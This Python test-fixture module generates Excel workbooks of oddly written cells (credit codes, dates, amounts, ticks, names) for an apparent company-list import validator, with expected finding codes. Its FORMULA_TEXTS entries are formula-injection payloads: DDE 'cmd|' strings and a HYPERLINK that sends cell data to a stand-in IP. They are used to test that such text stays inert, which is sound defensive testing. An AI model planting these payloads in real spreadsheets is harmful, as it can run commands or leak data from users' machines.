"""The kinds that are about cells: what people write where a code, a date, a number is asked for.

A kind here is a list with one odd way of writing in each row; the rows around it are good.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path
from typing import Any

from xlsxwriter.utility import xl_col_to_name
from zoo_parts import (
    FOUNDED,
    HEADINGS,
    PERCENT,
    READ,
    TRADES,
    ZEROS,
    Cast,
    Kind,
    Line,
    add_sheet,
    new_book,
    one_file,
    place_of,
    save_raw,
)

FORMULAS = "formula with a cached value"
LOST = "18-digit code as a number, `9.131E+17`, ends in 000; leading zeros gone"
CODES = "code in lower case, full-width, with spaces, zero-width characters, O for 0, I for 1"
DATES = "dates: real, serial, 1904 system"
NUMBERS = "`约300` `300人` `2000万` `2000万元` `0.2亿`"
SHARES = "15 %, 0.15, 15, `15％`"
TICKS = "是/否 as √ ✓ ☑ ■ Y 1"
CHOICES = "several choices “电子信息、装备制造” `;` `/` line breaks"
EDGES = "NBSP, full-width spaces, smart quotes, half-width brackets, line ends inside a name"
LETTERS = "control characters, private-use characters, 60,000-character text"
FORMULA_LIKE = "`=HYPERLINK(…)`, `=cmd|…`, `+86…`, `@…` as text"
PHONES = "phone `13800138000.0`, `021-5388 0900转8023`, two numbers"
TAILS = "floats with tails (0.30000000000000004)"

_BOARD = "样本企业榜"
_TWO = ("装备", "医药")


def _column(heading: str) -> str:
    return xl_col_to_name(place_of(heading))


def _ways(heading: str, *written: Any) -> Callable[[Cast], list[Line]]:
    """A list in which each row writes one column its own way."""

    def lines(cast: Cast) -> list[Line]:
        ways = zip(TRADES, written, strict=False)
        return [HEADINGS, *(cast.line(trade, **{heading: way}) for trade, way in ways)]

    return lines


def _ways_of_code(ways: Sequence[Callable[[str], Any]]) -> Callable[[Cast], list[Line]]:
    """A list in which each row spoils its own code in one way."""

    def lines(cast: Cast) -> list[Line]:
        spoilt = zip(TRADES, ways, strict=False)
        own = ((trade, way(cast.code(trade))) for trade, way in spoilt)
        return [HEADINGS, *(cast.line(trade, 统一社会信用代码=code) for trade, code in own)]

    return lines


def _kind(
    name: str,
    line: str,
    says: str,
    heading: str,
    ways: Sequence[tuple[Any, str, Any]],
    lines: Callable[[Cast], list[Line]] | None = None,
    key: str = "",
) -> Kind:
    """A kind of rows, each a way of writing: what is written, the code that it gets ("!" before an
    error's), and the value it is understood as.
    """
    at = _column(heading)
    told = [(row, code) for row, (_, code, _) in enumerate(ways, start=2) if code]
    own = lines or _ways(heading, *(written for written, _, _ in ways))
    return Kind(
        name,
        line,
        says,
        one_file(own),
        READ,
        tuple(f"名单.xlsx {_BOARD}!{at}{row} {code.removeprefix('!')}" for row, code in told),
        tuple(
            f"{trade} returned" if code.startswith("!") else trade
            for trade, (_, code, _) in zip(TRADES, ways, strict=False)
        ),
        {key: tuple(value for _, _, value in ways)} if key else {},
    )


# ---------------------------------------------------------------- formulas, lost digits


def _make_formulas(folder: Path, cast: Cast) -> None:
    odd = {
        "G2": '<c r="G2"><f>100+20</f><v>120</v></c>',
        "O2": '<c r="O2" t="str"><f>"传"&amp;"感器"</f><v>传感器</v></c>',
        "H3": '<c r="H3"><f>SUM(Q3:R3)</f></c>',
        "O4": '<c r="O4"><f>$A$1&amp;"x"</f><v></v></c>',
        "H5": '<c r="H5" t="e"><f>#REF!*2</f><v>#REF!</v></c>',
    }
    save_raw(folder / "名单.xlsx", cast.table("装备", "医药", "信息", "材料", "能源"), odd)


def _make_lost_digits(folder: Path, cast: Cast) -> None:
    lines = cast.table("装备", "医药", "信息", "材料")
    odd = {
        "E2": '<c r="E2"><v>913100001234567890</v></c>',
        "E3": f'<c r="E3" s="{PERCENT}"><v>9.131E+17</v></c>',
        "E4": '<c r="E4" t="inlineStr"><is><t>9.131E+17</t></is></c>',
        "E5": '<c r="E5" t="inlineStr"><is><t>913100001234567000</t></is></c>',
    }
    save_raw(folder / "名单.xlsx", [*lines, cast.line("能源")], odd)


def _make_lost_zeros(folder: Path, cast: Cast) -> None:
    odd = {
        "P2": '<c r="P2"><v>42</v></c>',
        "P3": f'<c r="P3" s="{ZEROS}"><v>42</v></c>',
    }
    save_raw(folder / "名单.xlsx", cast.table("装备", "医药", "信息"), odd)


def _wide(code: str) -> str:
    return "".join(chr(ord(letter) + 0xFEE0) for letter in code)


def _misread(code: str) -> str:
    """The code with one of its digits replaced."""
    return code[:12] + str((int(code[12]) + 1) % 10) + code[13:]


_CODE_WAYS: tuple[tuple[Callable[[str], Any], str], ...] = (
    (str.lower, "V207"),
    (_wide, "V207"),
    (lambda code: f" {code[:8]} {code[8:]}　", "V207"),
    (lambda code: f"{code[:4]}\u200b{code[4:]}\ufeff", "V207"),
    (lambda code: code.replace("0", "O", 1), "V207"),
    (lambda code: code.replace("1", "I", 1), "V207"),
    (_misread, "V403"),
    (lambda code: code, ""),
)


def _codes_kind() -> Kind:
    told = [(row, code) for row, (_, code) in enumerate(_CODE_WAYS, start=2) if code]
    return Kind(
        "codes-spelled", CODES, "代码有小写、全角、空格、零宽字符，O 当 0，I 当 1，抄错一位。",
        one_file(_ways_of_code([way for way, _ in _CODE_WAYS])), READ,
        tuple(f"名单.xlsx {_BOARD}!E{row} {code}" for row, code in told),
        TRADES[: len(_CODE_WAYS)],
    )  # fmt: skip


# ---------------------------------------------------------------- dates and numbers

_DATES: tuple[tuple[Any, str, Any], ...] = (
    (FOUNDED, "", FOUNDED),
    (43226, "V207", FOUNDED),
    ("2018.5.6", "V207", FOUNDED),
    ("2018/5/6", "V207", FOUNDED),
    ("2018年5月6日", "V207", FOUNDED),
    ("２０１８-０５-０６", "V207", FOUNDED),
    ("20180506", "V207", FOUNDED),
    (20180506, "V207", FOUNDED),
    ("2018-05", "V203", date(2018, 5, 1)),
    ("2018年5月", "V203", date(2018, 5, 1)),
    ("18.5.6", "V203", FOUNDED),
    ("2018年5月31日前", "V203", date(2018, 5, 31)),
    ("5/6/2018", "V203", FOUNDED),
    ("2018年2月30日", "!V201", None),
    ("去年", "!V201", None),
)
_NUMBERS: tuple[tuple[Any, str, Any], ...] = (
    ("1,234.5", "V202", 1234.5),
    ("１２３４", "V202", 1234.0),
    ("约300", "V202", 300.0),
    ("2000万", "V205", 2000.0),
    ("2000万元", "V205", 2000.0),
    ("0.2亿", "V205", 2000.0),
    ("/", "V207", None),
    ("—", "V207", None),
    ("无", "V207", None),
    ("不适用", "V207", None),
    ("N/A", "V207", None),
    ("两千多", "!V201", None),
)
_COUNTS: tuple[tuple[Any, str, Any], ...] = (
    ("300人", "V205", 300.0),
    ("约300人", "V205", 300.0),
    ("300", "V202", 300.0),
    ("300名左右", "V205", 300.0),
    ("三四百人", "!V201", None),
    (300, "", 300.0),
)
_SHARES: tuple[tuple[Any, str, Any], ...] = (
    (0.15, "", 0.15),
    (15, "V206", 0.15),
    ("15%", "V202", 0.15),
    ("15 %", "V202", 0.15),
    ("15％", "V202", 0.15),
    ("-3.5%", "V202", -0.035),
    ("一成五", "!V201", None),
)
_TAILS: tuple[tuple[Any, str, Any], ...] = (
    (0.1 + 0.2, "", 0.3),
    (1234.5000000000002, "", 1234.5),
    (4.35 * 100, "", 435.0),
)


def _make_1904(folder: Path, cast: Cast) -> None:
    with new_book(folder / "名单.xlsx", date_1904=True) as book:
        add_sheet(book, _BOARD, cast.table(*_TWO))


def _make_formatted_shares(folder: Path, cast: Cast) -> None:
    odd = {
        "I2": f'<c r="I2" s="{PERCENT}"><v>0.125</v></c>',
        "I3": f'<c r="I3" s="{PERCENT}"><v>1.5</v></c>',
    }
    save_raw(folder / "名单.xlsx", cast.table(*_TWO), odd)


# ---------------------------------------------------------------- choices and texts

_YES: tuple[tuple[Any, str, Any], ...] = (
    ("是", "", True), ("√", "V207", True), ("✓", "V207", True), ("☑", "V207", True),
    ("■", "V207", True), ("Y", "V207", True), (1, "V207", True), ("是☑ 否□", "V207", True),
)  # fmt: skip
_NO: tuple[tuple[Any, str, Any], ...] = (
    ("否", "", False), ("□", "V207", False), ("☐", "V207", False), ("N", "V207", False),
    (0, "V207", False), ("□是 ☑否", "V207", False), ("☑是 ☑否", "!V201", None),
    ("□是 □否", "!V201", None), ("正在申请", "!V401", None),
)  # fmt: skip
_SEVERAL: tuple[tuple[Any, str, Any], ...] = (
    ("工业、交通", "", ["工业", "交通"]),
    ("工业;交通", "", ["工业", "交通"]),
    ("工业/交通", "", ["工业", "交通"]),
    ("工业\n交通", "", ["工业", "交通"]),
    ("☑工业 □农业 ☑交通", "", ["工业", "交通"]),
    ("工业、航海", "!V401", ["工业", "航海"]),
)
_ONE: tuple[tuple[Any, str, Any], ...] = (
    ("电子 信息", "V207", "电子信息"),
    ("☑电子信息 □装备制造", "V207", "电子信息"),
    ("电子信息、装备制造", "!V401", "电子信息、装备制造"),
    ("生物医药", "", "生物医药"),
)
_PHONES: tuple[tuple[Any, str, Any], ...] = (
    ("13800138000.0", "", "13800138000"),
    (13800138000.0, "", "13800138000"),
    ("021-5388 0900转8023", "", "021-5388 0900转8023"),
    ("13800138000、13900139000", "", "13800138000、13900139000"),
    ("+86 138 0013 8000", "", "+86 138 0013 8000"),
)
FORMULA_TEXTS: tuple[tuple[Any, str, Any], ...] = tuple(
    (text, "", text)
    for text in (
        '=HYPERLINK("http://192.0.2.1/?"&A1,"点我")', "=cmd|'/c calc'!A1", "+8613800138000",
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "https://example.com/",
    )
)  # fmt: skip


def _names_written(cast: Cast) -> list[Line]:
    """The same company three times, each written another way; and one more."""
    code = {"统一社会信用代码": None}
    name = cast.name("装备")
    ways = (f"\u00a0{name}\u3000", f"{name[:4]}\n{name[4:]}", f"“{name[:4]}”{name[4:]}")
    return [
        HEADINGS,
        *(cast.line("装备", 企业名称=way, **code) for way in ways),
        cast.line("医药", 企业名称=f"{cast.name('医药')}\r\n"),
    ]


def _bracketed(cast: Cast) -> list[Line]:
    word = cast.name("装备")[:4]
    ways = (f"{word}（装备）有限公司", f"{word}(装备)有限公司")
    return [
        HEADINGS, *(cast.line("装备", 企业名称=way, 统一社会信用代码=None) for way in ways)
    ]  # fmt: skip


def _make_strange_letters(folder: Path, cast: Cast) -> None:
    lines = cast.table("装备", "医药", "信息", "材料")
    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
    odd = {
        "O2": text.format("O2", "传_x0001_感_x000B_器"),
        "O3": text.format("O3", "传感器\ue000\uf8ff"),
        "O4": text.format("O4", "长" * 60_000),
    }
    save_raw(folder / "名单.xlsx", lines, odd)


KINDS = (
    Kind("formulas", FORMULAS, "公式：有结果的，没有结果的，#REF! 的。", _make_formulas, READ,
         findings=("名单.xlsx 名单!H3 V902", "名单.xlsx 名单!O4 V902", "名单.xlsx 名单!H5 V901"),
         entries=("装备", "医药 returned", "信息 returned", "材料 returned", "能源"),
         values={"staff": (120, 120, 120, 120, 120)}),
    Kind("codes-that-lost-digits", LOST, "代码被存成了数字，或者显示成 9.131E+17。",
         _make_lost_digits, READ,
         findings=tuple(f"名单.xlsx 名单!E{row} V204" for row in (2, 3, 4, 5)),
         entries=("装备 returned", "医药 returned", "信息 returned", "材料 returned", "能源")),
    Kind("codes-that-lost-zeros", LOST, "编号存成数字，丢了开头的零；靠格式显示的零照样读出。",
         _make_lost_zeros, READ, findings=("名单.xlsx 名单!P2 V204", "名单.xlsx 名单!P3 V207"),
         entries=("装备 returned", "医药", "信息"),
         values={"certificate": (None, "00000042", "20230001")}),
    _codes_kind(),
    _kind("dates-spelled", DATES, "日期的各种写法。", "成立日期", _DATES, key="founded"),
    Kind("dates-of-1904", DATES, "苹果电脑 1904 日期系统的工作簿。", _make_1904, READ,
         entries=_TWO, values={"founded": (FOUNDED, FOUNDED)}),
    _kind("numbers-spelled", NUMBERS, "数字的各种写法，和表示空白的字。", "营业收入", _NUMBERS,
          key="revenue"),
    _kind("counts-spelled", NUMBERS, "人数带着“人”字、“约”字。", "员工人数", _COUNTS,
          key="staff"),
    _kind("shares-spelled", SHARES, "百分比写成 0.15、15、15%、15％。", "毛利率", _SHARES,
          key="margin"),
    Kind("shares-formatted", SHARES, "百分比格式的单元格：12.5% 和 150%。", _make_formatted_shares,
         READ, entries=_TWO, values={"margin": (0.125, 1.5)}),
    _kind("yes", TICKS, "“是”的各种写法。", "是否高新技术企业", _YES, key="high_tech"),
    _kind("no", TICKS, "“否”的各种写法；两个都勾，一个不勾，写别的字。", "是否高新技术企业", _NO,
          key="high_tech"),
    _kind("several-choices", CHOICES, "几个选项用顿号、分号、斜线、换行隔开。", "应用场景",
          _SEVERAL, key="scenes"),
    _kind("one-choice", CHOICES, "只能选一项的栏里写了几项。", "领域", _ONE, key="domain"),
    Kind("names-with-edges", EDGES, "名称里有不换行空格、全角空格、换行和引号。",
         one_file(_names_written), READ,
         findings=(f"名单.xlsx {_BOARD}!D3 R101", f"名单.xlsx {_BOARD}!D4 R101"),
         entries=("装备", "装备 duplicate", "装备 duplicate", "医药")),
    Kind("names-with-brackets", EDGES, "同一家，括号一个全角一个半角。", one_file(_bracketed), READ,
         findings=(f"名单.xlsx {_BOARD}!D3 R101",), entries=("装备", "装备 duplicate")),
    Kind("strange-letters", LETTERS, "控制字符、私用区字符、六万字的文字。", _make_strange_letters,
         READ, findings=("名单.xlsx 名单!O2 V207", "名单.xlsx 名单!O3 V208",
                         "名单.xlsx 名单!O4 V304"),
         entries=("装备", "医药", "信息 returned", "材料")),
    _kind("texts-like-formulas", FORMULA_LIKE, "像公式和链接的文字，处处都只是文字。", "主要产品",
          FORMULA_TEXTS, key="product"),
    _kind("phones", PHONES, "电话带 .0、分机，一格两个号码。", "联系电话", _PHONES, key="phone"),
    _kind("floats-with-tails", TAILS, "浮点数的尾巴。", "营业收入", _TAILS, key="revenue"),
)  # fmt: skip
